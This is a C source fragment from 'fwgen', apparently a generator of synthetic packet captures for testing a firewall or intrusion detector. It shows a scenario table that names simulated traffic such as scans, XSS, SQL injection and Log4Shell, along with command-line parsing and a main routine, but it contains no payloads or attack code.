    {"demo", scn_demo, "benign + scans, brute force, tunnel, policy, beacon (< 2 MB)"},
    {"rule_pack", scn_rule_pack, "RDP in, SSH to swift, card DNS out, DNS on 5300, DNSCrypt, NXDOMAIN"},
    {"cleartext", scn_cleartext, "Telnet login into card, FTP logins into core-banking and branch"},
    {"web_attack", scn_web_attack, "XSS, SQL injection, Log4Shell against a DMZ web server"},
    {"threat_intel", scn_threat_intel, "contacts with the canary TI domain and address; benign"},
    {"manyflows", scn_manyflows, "200k idle classified DNS flows in 50 s (bench: bytes/flow)"},
};

static const struct gen_scenario *gen_find(const char *name)
{
    size_t i;

    for (i = 0; i < GEN_N(gen_scenarios); i++)
        if (strcmp(gen_scenarios[i].name, name) == 0)
            return &gen_scenarios[i];
    return NULL;
}

static void gen_usage(FILE *f)
{
    size_t i;

    fprintf(f, "usage: fwgen SCENARIO OUT.pcap [--seed N] [--scale F]\n"
               "       fwgen list\nscenarios:\n");
    for (i = 0; i < GEN_N(gen_scenarios); i++)
        fprintf(f, "  %-16s %s\n", gen_scenarios[i].name, gen_scenarios[i].help);
}

struct gen_opts {
    const struct gen_scenario *scn;
    const char *out;
    uint64_t seed;
    double scale;
};

/* 0 on success, -1 after printing why. */
static int gen_parse(int argc, char **argv, struct gen_opts *o)
{
    int i;

    o->seed = 1;
    o->scale = 1.0;
    if (argc < 3 || (o->scn = gen_find(argv[1])) == NULL) {
        if (argc >= 2)
            fprintf(stderr, "fwgen: unknown scenario or missing output: %s\n", argv[1]);
        return -1;
    }
    o->out = argv[2];
    for (i = 3; i < argc; i++) {
        char *end = NULL;

        errno = 0;
        if (strcmp(argv[i], "--seed") == 0 && i + 1 < argc) {
            o->seed = strtoull(argv[++i], &end, 10);
        } else if (strcmp(argv[i], "--scale") == 0 && i + 1 < argc) {
            o->scale = strtod(argv[++i], &end);
            if (!(o->scale >= 0.001 && o->scale <= 100.0))
                errno = ERANGE;
        } else {
            fprintf(stderr, "fwgen: unknown option %s\n", argv[i]);
            return -1;
        }
        if (errno != 0 || end == argv[i] || *end != '\0') {
            fprintf(stderr, "fwgen: bad value for %s: %s\n", argv[i - 1], argv[i]);
            return -1;
        }
    }
    return 0;
}

int main(int argc, char **argv)
{
    struct gen_opts o;
    struct gen_ctx *g;
    int rc;

    if (argc == 2 && strcmp(argv[1], "list") == 0) {
        gen_usage(stdout);
        return 0;
    }
    if (gen_parse(argc, argv, &o) != 0) {
        gen_usage(stderr);
        return 2;
    }
    g = calloc(1, sizeof(*g));
    if (g == NULL) {
        fprintf(stderr, "fwgen: out of memory\n");
        return 1;
    }
    g->rng = o.seed;
    g->scale = o.scale;
    o.scn->fn(g, GEN_BASE_US);
    rc = g->failed ? -1 : gen_write(g, o.out);
    if (g->failed)
        fprintf(stderr, "fwgen: out of memory\n");
    else if (rc == 0)
        fprintf(stderr, "fwgen: %s: %zu packets, %" PRIu64 " bytes on the wire -> %s\n",
                o.scn->name, g->nrec, g->wire_bytes, o.out);
    free(g->recs);
    free(g->data);
    free(g);
    return rc == 0 ? 0 : 1;
}
